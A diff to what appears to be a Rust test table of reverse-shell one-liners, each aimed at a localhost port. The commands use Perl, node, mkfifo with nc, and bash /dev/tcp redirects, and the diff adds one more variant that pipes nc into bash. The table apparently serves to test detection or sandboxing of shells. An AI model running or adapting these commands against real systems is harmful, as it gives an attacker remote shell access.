@@ -81,6 +81,7 @@ open2($o,$i,\"/bin/sh\",\"-i\"); if(fork){while(sysread($s,$b,4096)){syswrite($i
     Attack { name: "node with pipes", far: tcp, script: "exec node -e \"const s=require('net').connect(PORT,'127.0.0.1'),c=require('child_process').spawn('/bin/sh');s.pipe(c.stdin);c.stdout.pipe(s);c.on('exit',()=>process.exit())\"" },
     Attack { name: "a fifo and nc, as a script", far: tcp, script: "mkfifo DIR/f; nc.openbsd 127.0.0.1 PORT <DIR/f | bash /dev/stdin >DIR/f 2>&1" },
     Attack { name: "two connections", far: two, script: "exec 3<>/dev/tcp/127.0.0.1/PORT 4<>/dev/tcp/127.0.0.1/PORT; exec sh -i <&3 >&4 2>&4" },
+    Attack { name: "a pipe as a script", far: two, script: "bash <(nc.openbsd -d 127.0.0.1 PORT) 2>&1 | (sleep 1; exec nc.openbsd 127.0.0.1 PORT)" },
     Attack { name: "a connection in, a pipe out", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; sh -i <&3 2>&1 | cat >&3" },
     Attack { name: "bash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec bash <&3 >/dev/null 2>&1" },
     Attack { name: "dash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sh <&3 >/dev/null 2>&1" },
